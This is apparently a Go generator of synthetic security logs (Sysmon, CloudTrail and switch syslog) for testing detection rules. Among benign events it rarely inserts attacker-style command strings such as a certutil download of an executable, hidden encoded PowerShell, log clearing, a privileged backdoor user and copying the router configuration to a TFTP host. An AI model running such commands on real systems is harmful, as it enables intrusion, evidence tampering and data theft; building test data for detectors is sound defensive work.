package main

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"
	"time"
)

// instant is when event n happened.
func instant(n int) time.Time {
	return time.Date(2026, 11, 22, 4, 0, 0, 0, time.UTC).Add(time.Duration(n) * 37 * time.Millisecond)
}

func pick(rng *rand.Rand, list []string) string { return list[rng.IntN(len(list))] }

// rarely picks one of the few texts that rules look for: one in fifty.
func rarely(rng *rand.Rand, few, many []string) string {
	if rng.IntN(50) == 0 {
		return pick(rng, few)
	}
	return pick(rng, many)
}

var (
	users    = []string{"kim", "alex", "svc-backup", "admin", "j.doe", "deploy", "SYSTEM", "NETWORK SERVICE"}
	hosts    = []string{"ws-014", "ws-221", "srv-file1", "dc-02", "build-7", "lab-3"}
	programs = []string{
		`C:\Windows\explorer.exe`, `C:\Windows\System32\taskhostw.exe`, `C:\Windows\System32\backgroundTaskHost.exe`,
		`C:\Program Files\Google\Chrome\Application\chrome.exe`, `C:\Program Files\Git\bin\git.exe`,
		`C:\Windows\System32\SearchIndexer.exe`, `C:\Program Files\7-Zip\7zG.exe`, `C:\Windows\System32\notepad.exe`,
	}
	parents = []string{`C:\Windows\explorer.exe`, `C:\Windows\System32\services.exe`, `C:\Windows\System32\userinit.exe`}
	tools   = []string{
		`C:\Windows\System32\whoami.exe`, `C:\Windows\System32\net.exe`, `C:\Windows\System32\certutil.exe`,
		`C:\Windows\System32\rundll32.exe`, `C:\Users\kim\AppData\Local\Temp\setup.exe`,
	}
	commands = []string{
		`git fetch origin %s`, `chrome.exe --type=renderer --id=%s`, `notepad.exe C:\Users\kim\%s.txt`, `taskhostw.exe %s`,
		`SearchIndexer.exe /Embedding %s`, `"C:\Program Files\7-Zip\7zG.exe" x -o"D:\%s"`, `explorer.exe /factory,{%s}`,
	}
	orders = []string{
		`whoami /all`, `cmd.exe /c dir %s`, `net user %s /domain`, `certutil -urlcache -f http://example.com/%s a.exe`,
		`rundll32.exe shell32.dll,Control_RunDLL %s.cpl`, `powershell.exe -w hidden -enc %s`,
	}
	domains = []string{"example.com", "update.example.net", "cdn.example.org", "mail.example.com", "api.example.io"}
)

// structured makes flat endpoint events that say their log source themselves,
// as rsigma's own generator does, and nested cloud ones.
func structured(rng *rand.Rand, n int) []byte {
	if rng.IntN(4) == 0 {
		return line(cloudTrail(rng, n))
	}
	return line(endpoint(rng, n))
}

func line(fields map[string]any) []byte {
	out, err := json.Marshal(fields) // of texts and maps: cannot fail
	if err != nil {
		return nil
	}
	return append(out, '\n')
}

// endpoint is a Sysmon event without its message.
func endpoint(rng *rand.Rand, n int) map[string]any {
	token := fmt.Sprintf("%x", rng.Uint64())
	f := map[string]any{
		"product": "windows", "service": "sysmon", "Channel": "Microsoft-Windows-Sysmon/Operational",
		"Computer": pick(rng, hosts), "UtcTime": instant(n).Format("2006-01-02 15:04:05.000"),
		"Image": rarely(rng, tools, programs), "User": pick(rng, users), "ProcessId": fmt.Sprint(rng.IntN(9000)),
	}
	switch rng.IntN(5) {
	case 0:
		f["EventID"], f["category"] = 11, "file_event"
		f["TargetFilename"] = `C:\Users\kim\AppData\Local\Temp\` + token + rarely(rng, []string{".dll", ".ps1", ".hta"}, []string{".tmp", ".docx", ".log"})
	case 1:
		f["EventID"], f["category"] = 3, "network_connection"
		f["DestinationIp"], f["DestinationPort"] = fmt.Sprintf("10.0.%d.%d", rng.IntN(9), rng.IntN(250)), fmt.Sprint(rng.IntN(65000))
		f["DestinationHostname"], f["Initiated"] = pick(rng, domains), "true"
	case 2:
		f["EventID"], f["category"] = 22, "dns_query"
		f["QueryName"], f["QueryStatus"] = token[:6]+"."+pick(rng, domains), "0"
	case 3:
		f["EventID"], f["category"], f["EventType"] = 13, "registry_set", "SetValue"
		f["TargetObject"], f["Details"] = `HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\`+token, "DWORD (0x00000001)"
	default:
		f["EventID"], f["category"] = 1, "process_creation"
		f["ParentImage"], f["IntegrityLevel"] = rarely(rng, tools, parents), "Medium"
		f["CommandLine"] = strings.Replace(rarely(rng, orders, commands), "%s", token, 1)
		f["ParentCommandLine"] = strings.Replace(pick(rng, commands), "%s", token[:4], 1)
		f["Hashes"] = fmt.Sprintf("MD5=%016X%016X,IMPHASH=%016X%016X", rng.Uint64(), rng.Uint64(), rng.Uint64(), rng.Uint64())
	}
	return f
}

// cloudTrail is an AWS CloudTrail record.
func cloudTrail(rng *rand.Rand, n int) map[string]any {
	name := rarely(rng, []string{"CreateUser", "StopLogging", "ConsoleLogin"},
		[]string{"DescribeInstances", "DescribeVolumes", "GetObject", "PutObject", "ListBuckets", "DescribeTags"})
	return map[string]any{
		"product": "aws", "service": "cloudtrail", "eventVersion": "1.09", "eventName": name,
		"eventSource": pick(rng, []string{"ec2.amazonaws.com", "s3.amazonaws.com", "iam.amazonaws.com", "sts.amazonaws.com"}),
		"eventTime":   instant(n).Format(time.RFC3339), "awsRegion": "eu-central-1", "eventType": "AwsApiCall",
		"sourceIPAddress": fmt.Sprintf("192.0.2.%d", rng.IntN(250)), "userAgent": "aws-cli/2.17", "readOnly": true,
		"eventID": fmt.Sprintf("%x-%x", rng.Uint32(), rng.Uint64()), "recipientAccountId": "123456789012",
		"userIdentity": map[string]any{
			"type": "IAMUser", "userName": pick(rng, users), "accountId": "123456789012",
			"arn": "arn:aws:iam::123456789012:user/" + pick(rng, users),
		},
		"requestParameters": map[string]any{"bucketName": pick(rng, hosts), "key": fmt.Sprintf("%x", rng.Uint64())},
		"responseElements":  nil,
	}
}

var (
	devices  = []string{"core-sw1", "core-sw2", "edge-r2", "dist-4", "fw-lab"}
	consoles = []string{
		"interface GigabitEthernet0/%d", "switchport access vlan %d", "description uplink %d", "spanning-tree portfast",
		"channel-group %d mode active", "speed 1000", "storm-control broadcast level %d", "exit", "vlan %d", "name lab-%d",
	}
	intrusions = []string{
		"show running-config", "clear logging", "monitor session %d source interface Gi0/1", "no logging on",
		"username backup privilege 15 secret 9 x", "copy running-config tftp://192.0.2.%d/x",
	}
)

// networkText makes what a switch says of the commands given to it.
func networkText(rng *rand.Rand, n int) []byte {
	head := fmt.Sprintf("<%d>%s %s ", 184+rng.IntN(8), instant(n).Format(time.Stamp), pick(rng, devices))
	switch rng.IntN(6) {
	case 0:
		return fmt.Appendf(nil, "%s%%SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: %s] [Source: 10.0.0.%d] [localport: 22] at %s\n",
			head, pick(rng, users), rng.IntN(250), instant(n).Format("15:04:05 UTC"))
	case 1:
		return fmt.Appendf(nil, "%s%%SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: %s] [Source: 10.0.0.%d] [localport: 22] [Reason: Login Authentication Failed]\n",
			head, pick(rng, users), rng.IntN(250))
	}
	command := rarely(rng, intrusions, consoles)
	if strings.Contains(command, "%d") {
		command = fmt.Sprintf(command, rng.IntN(48))
	}
	return fmt.Appendf(nil, "%s%%PARSER-5-CFGLOG_LOGGEDCMD: User:%s  logged command:%s\n", head, pick(rng, users), command)
}
